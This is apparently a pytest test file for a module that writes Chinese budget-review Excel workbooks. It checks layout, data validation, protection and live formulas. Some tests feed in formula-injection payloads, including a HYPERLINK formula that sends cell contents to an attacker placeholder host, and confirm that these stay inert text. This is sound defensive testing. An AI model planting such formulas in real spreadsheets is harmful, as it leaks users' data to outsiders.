import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from html import unescape
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from kpi.model.disclosure import Disclosure
from kpi.model.finding import Review
from kpi.reporting import xlsx
from tests.reporting import builders
from tests.reporting.hostile import PAYLOADS, hostile_review
from tests.snapshots import check_snapshot

Convert = Callable[[Path, str], Path]
ANSWERS = ("处理方式", "说明", "责任人", "日期")
SHEETS = ["汇总", "项目审核表", "问题清单", "整改台账", "勾稽计算", "未执行检查", "规则说明"]
OURS = re.compile(r"=(?:[A-Z]+\d+|[-+*()/\d<,]|IF|ROUND|MAX|MIN|AND|OR|\"相符\"|\"不符\")+")
"""What a formula of ours is made of: references, numbers, a few functions and two words."""


@pytest.fixture
def workbook(review: Review, tmp_path: Path) -> Path:
    path = tmp_path / "review.xlsx"
    xlsx.write_review(review, path)
    return path


@pytest.fixture
def extract(review: Review, tmp_path: Path) -> Path:
    path = tmp_path / "extract.xlsx"
    xlsx.write_extract(review.documents, path)
    return path


def _listing(path: Path) -> str:
    """Return a workbook as text: sheet by sheet, row by row."""
    lines = []
    for sheet in load_workbook(path).worksheets:
        lines.append(f"# {sheet.title}")
        rows = sheet.iter_rows(values_only=True)
        lines += [" | ".join("" if value is None else str(value) for value in row) for row in rows]
    return "\n".join(lines) + "\n"


def _records(path: Path, sheet: str) -> list[dict[str, Any]]:
    head, *rows = load_workbook(path)[sheet].iter_rows(values_only=True)
    return [dict(zip(map(str, head), row, strict=True)) for row in rows]


def test_the_workbooks_read_as_agreed(workbook: Path, extract: Path, snapshots: Path) -> None:
    check_snapshot(_listing(workbook), snapshots / "review.xlsx.txt")
    check_snapshot(_listing(extract), snapshots / "extract.xlsx.txt")


def test_the_sheets_that_an_office_expects_are_there(workbook: Path) -> None:
    sheets = load_workbook(workbook).worksheets
    assert [sheet.title for sheet in sheets if sheet.sheet_state == "visible"] == SHEETS


def test_every_finding_is_listed_with_room_for_an_answer(workbook: Path, review: Review) -> None:
    rows = _records(workbook, "问题清单")
    assert [row["问题编号"] for row in rows] == [finding.fingerprint for finding in review.findings]
    assert [row["序号"] for row in rows] == list(range(1, len(rows) + 1))
    assert all(row["问题描述"] and row["修改建议"] and row["依据"] and row["位置"] for row in rows)
    answers = _records(workbook, "整改台账")
    assert [row["问题编号"] for row in answers] == [row["问题编号"] for row in rows]
    assert all(row[title] is None for row in answers for title in ANSWERS)
    assert rows[3]["计算过程"].startswith("项目支出控制数 = 96.75 ～ 96.85万元；应不超过预算数")


def test_the_department_chooses_its_answer_from_a_list(workbook: Path) -> None:
    sheet = load_workbook(workbook)["整改台账"]
    column = next(cell.column_letter for cell in sheet[1] if cell.value == "处理方式")
    choice = next(one for one in sheet.data_validations.dataValidation if one.type == "list")
    assert choice.formula1 == '"已改,说明,不适用"'
    assert str(choice.sqref) == f"{column}2:{column}11"


def test_the_department_can_only_write_its_answers(workbook: Path) -> None:
    sheet = load_workbook(workbook)["整改台账"]
    assert sheet.protection.sheet
    assert sheet.protection.password is None
    titles = [cell.value for cell in sheet[1]]
    open_cells = {title for title, cell in zip(titles, sheet[2], strict=True) if not cell.protection.locked}
    assert open_cells == set(ANSWERS)


def test_a_proof_is_a_live_formula_over_its_figures(workbook: Path) -> None:
    rows = list(load_workbook(workbook)["勾稽计算"].iter_rows(values_only=True))
    formulas = [cell for row in rows for cell in row if isinstance(cell, str) and cell.startswith("=")]
    assert formulas
    assert all(OURS.fullmatch(formula) for formula in formulas)


def test_an_office_program_recalculates_the_proofs_to_our_figures(
    workbook: Path, review: Review, convert: Convert
) -> None:
    again = load_workbook(convert(workbook, "xlsx"), data_only=True)["勾稽计算"]
    results = [row for row in again.iter_rows(min_row=2, values_only=True) if row[3] == "计算"]
    proofs = [finding.proof for finding in review.findings if finding.proof]
    assert len(results) == len(proofs) > 0
    for row, proof in zip(results, proofs, strict=True):
        assert (row[8], row[9]) == pytest.approx(tuple(map(float, proof.computed)))


@pytest.mark.parametrize("title", ["项目审核表", "问题清单", "整改台账", "未执行检查", "规则说明"])
def test_tables_scroll_filter_and_print_well(workbook: Path, title: str) -> None:
    sheet = load_workbook(workbook)[title]
    assert str(sheet.freeze_panes).endswith("2")
    assert sheet.auto_filter.ref == sheet.dimensions
    assert sheet.print_title_rows == "$1:$1"
    assert (sheet.page_setup.orientation, str(sheet.page_setup.paperSize)) == ("landscape", "9")
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert all(cell.alignment.wrap_text for cell in sheet[1])


def test_amounts_are_numbers_with_their_decimals(extract: Path) -> None:
    canal, pump = _records(extract, "项目")
    assert (canal["预算数（万元）"], canal["预算数原文"], pump["预算数原文"]) == (
        86.8,
        "86.80万元",
        "235,000元",
    )
    assert (canal["12月底（%）"], pump["3月底（%）"], pump["12月底（%）"]) == (None, "空白", 100)
    sheet = load_workbook(extract)["项目"]
    formats = {cell.number_format for cell in sheet["H"][1:]}
    assert formats == {"#,##0.00"}


def test_a_share_of_nothing_is_a_zero_and_no_blank(tmp_path: Path) -> None:
    project = replace(builders.canal_project(), plan=builders.plan(5, m3="0", m6=None))
    path = tmp_path / "zero.xlsx"
    xlsx.write_extract([Disclosure("a.txt", projects=(project,))], path)
    (row,) = _records(path, "项目")
    assert (row["3月底（%）"], row["6月底（%）"]) == (0, "空白")


def test_an_indicator_row_has_its_value_understood(extract: Path) -> None:
    row = _records(extract, "指标")[4]
    assert (row["指标值"], row["值·类型"], row["值·符号"]) == ("≤96.8万元", "quantity", "<=")
    assert (row["值·数值"], row["值·单位"], row["读取位置"]) == (96.8, "万元", "第114行")
    assert _records(extract, "指标")[3]["值·时限"] == "2025-10-底"
    assert _records(extract, "指标")[6]["读取存疑"] == "本格可能有一部分印在下一页"


def test_a_file_that_failed_is_listed(extract: Path) -> None:
    assert _records(extract, "文件")[1]["未能读取的代码"] == "NO_TEXT_LAYER"


def test_a_number_too_long_for_a_sheet_stays_exact(tmp_path: Path) -> None:
    long = builders.quantity("≥1234567890123456789元", ">=", "1234567890123456789", "元")
    row = replace(builders.canal_project().indicators[0], constraint=long)
    path = tmp_path / "long.xlsx"
    project = replace(builders.canal_project(), indicators=(row,))
    xlsx.write_extract([Disclosure("a.txt", projects=(project,))], path)
    assert _records(path, "指标")[0]["值·数值"] == "1234567890123456789"


def test_an_empty_review_is_a_workbook_too(tmp_path: Path, clean_review: Review) -> None:
    path = tmp_path / "clean.xlsx"
    xlsx.write_review(clean_review, path)
    assert _records(path, "问题清单") == []
    assert load_workbook(path)["汇总"]["A3"].value == "未发现问题"


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: ascii(payload[:24]))
def test_nothing_from_a_cell_becomes_a_formula(payload: str, tmp_path: Path) -> None:
    review, paths = hostile_review(payload), (tmp_path / "review.xlsx", tmp_path / "extract.xlsx")
    xlsx.write_review(review, paths[0])
    xlsx.write_extract(review.documents, paths[1])
    for path in paths:
        with zipfile.ZipFile(path) as package:
            parts = [package.read(name).decode() for name in package.namelist() if "worksheets/" in name]
            formulas = [found for part in parts for found in re.findall(r"<f(?: [^>]*)?>(.*?)</f>", part)]
            assert all(OURS.fullmatch(f"={unescape(formula)}") for formula in formulas)
            assert not any('t="e"' in part for part in parts)
            assert not [name for name in package.namelist() if "externalLink" in name]
        for sheet in load_workbook(path):
            kinds = {cell.data_type for row in sheet for cell in row}
            assert kinds <= ({"s", "n", "f"} if sheet.title == "勾稽计算" else {"s", "n"})


@pytest.mark.parametrize("payload", ["=1+1", "+1", "-1", "@A", "＝1", "＋1", "－1", "＠A"])
def test_a_leading_sign_stays_text_when_somebody_edits_the_cell(payload: str, tmp_path: Path) -> None:
    path = tmp_path / "review.xlsx"
    xlsx.write_review(hostile_review(payload), path)
    sheet = load_workbook(path)["问题清单"]
    cells = [cell for cell in sheet[2] if cell.value == payload]
    assert cells
    assert all(cell.quotePrefix for cell in cells)


def test_a_text_too_long_for_a_cell_is_cut_visibly(tmp_path: Path) -> None:
    path = tmp_path / "review.xlsx"
    xlsx.write_review(hostile_review("长" * 40_000), path)
    text = load_workbook(path)["问题清单"]["E2"].value
    assert len(text) == 32_767
    assert text.endswith("…（过长，已截断）")


def test_an_office_program_opens_the_workbooks(workbook: Path, extract: Path, convert: Convert) -> None:
    assert convert(workbook, "pdf").read_bytes().startswith(b"%PDF")
    assert convert(extract, "pdf").read_bytes().startswith(b"%PDF")


@pytest.mark.parametrize(
    ("payload", "shown"),
    [
        (
            '=HYPERLINK("http://attacker.invalid/?"&A1)',
            "=HYPERLINK(&quot;http://attacker.invalid/?&quot;&amp;A1)",
        ),
        ("坏\x00字\x08_x0041_", "坏␀字␈_x0041_"),
    ],
)
def test_an_office_program_sees_the_text_as_it_is(
    payload: str, shown: str, tmp_path: Path, convert: Convert
) -> None:
    source = tmp_path / "hostile.xlsx"
    xlsx.write_review(hostile_review(payload), source)
    flat = convert(source, "fods").read_text(encoding="utf-8")
    formulas = {unescape(found) for found in re.findall(r'table:formula="([^"]*)"', flat)}
    assert all("[." in formula and payload not in formula for formula in formulas)
    assert f"<text:p>{shown}</text:p>" in flat
